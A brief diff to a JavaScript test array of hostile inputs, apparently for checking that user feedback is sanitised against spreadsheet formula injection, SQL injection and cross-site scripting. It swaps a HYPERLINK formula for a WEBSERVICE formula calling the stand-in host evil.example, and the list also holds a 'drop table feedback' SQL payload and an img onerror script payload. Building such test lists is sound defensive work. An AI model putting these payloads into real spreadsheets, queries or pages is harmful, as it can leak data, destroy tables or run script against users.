@@ -17,7 +17,7 @@ const HOSTILE = [
   '-2+3',
   '@SUM(A1:A9)',
   '＝1＋1',
-  'nice;=HYPERLINK("http://evil.example")',
+  'nice;=WEBSERVICE("http://evil.example")',
   '"; drop table feedback; --',
   'a,b;c\r\nd"e""f',
   '<img src=x onerror=alert(1)>',
